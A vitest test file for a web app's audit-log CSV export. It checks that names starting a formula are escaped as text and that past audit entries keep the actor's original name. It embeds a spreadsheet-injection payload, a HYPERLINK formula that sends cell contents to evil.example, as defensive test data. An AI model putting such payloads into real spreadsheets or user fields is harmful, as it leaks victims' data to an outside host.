import { AUDIT_EXPORT_PATH } from "@prism/contract";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { post, signUpAndConfirm } from "../../../test/accounts";
import { createTestApp, SAME_ORIGIN, type TestApp } from "../../../test/test-app";
import { SESSION_COOKIE } from "../auth/session-cookie";

/**
 * The audit log attacked through HTTP: a name someone chose must not become a formula in the owner's
 * spreadsheet, and renaming oneself afterwards must not rewrite who did what.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")';

describe("audit log", () => {
  let testApp: TestApp;

  beforeAll(async () => {
    testApp = await createTestApp();
  });

  afterAll(async () => {
    await testApp?.close();
  });

  const exportCsv = async (session: string, organizationId: string) => {
    const response = await testApp.app.inject({
      method: "GET",
      url: `${AUDIT_EXPORT_PATH}?organizationId=${organizationId}`,
      headers: SAME_ORIGIN,
      cookies: { [SESSION_COOKIE]: session },
    });
    expect(response.statusCode, response.body).toBe(200);
    return parse(response.body, { columns: true }) as Record<string, string>[];
  };

  it("exports an actor's name that starts a formula as text, not as a formula", async () => {
    const owner = await signUpAndConfirm(testApp, { firstName: FORMULA, lastName: "+1" });
    const organizationId: string = owner.userInfo.organizations[0].id;
    const renamed = await post(
      testApp,
      "/v1/users/organizations/update-name",
      { organizationId, name: "@SUM(1+1)" },
      { session: owner.session },
    );
    expect(renamed.statusCode, renamed.body).toBe(200);

    const rows = await exportCsv(owner.session, organizationId);
    const entry = rows.find((row) => row.Action === "organization.renamed");
    expect(entry?.Actor).toBe(`'${FORMULA} +1`);
    // The changes cell holds the new name inside JSON: it starts with "{", no formula.
    expect(entry?.Changes?.startsWith("{")).toBe(true);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("keeps the actor's name as it was when the entry was written", async () => {
    const owner = await signUpAndConfirm(testApp, { firstName: "Alice", lastName: "Original" });
    const organizationId: string = owner.userInfo.organizations[0].id;
    const renamed = await post(
      testApp,
      "/v1/users/organizations/update-name",
      { organizationId, name: "Before the rename" },
      { session: owner.session },
    );
    expect(renamed.statusCode, renamed.body).toBe(200);
    const profile = await post(
      testApp,
      "/v1/users/settings/update-profile",
      { firstName: "Mallory", lastName: "Later" },
      { session: owner.session },
    );
    expect(profile.statusCode, profile.body).toBe(200);

    const listed = await post(
      testApp,
      "/v1/users/audit-log/list",
      { organizationId, action: "organization.renamed" },
      { session: owner.session },
    );
    expect(listed.statusCode, listed.body).toBe(200);
    expect(listed.json().entries).toHaveLength(1);
    expect(listed.json().entries[0].actor).toMatchObject({ type: "user", name: "Alice Original" });
    const exported = await exportCsv(owner.session, organizationId);
    expect(exported.find((row) => row.Action === "organization.renamed")?.Actor).toBe("Alice Original");
  });
});
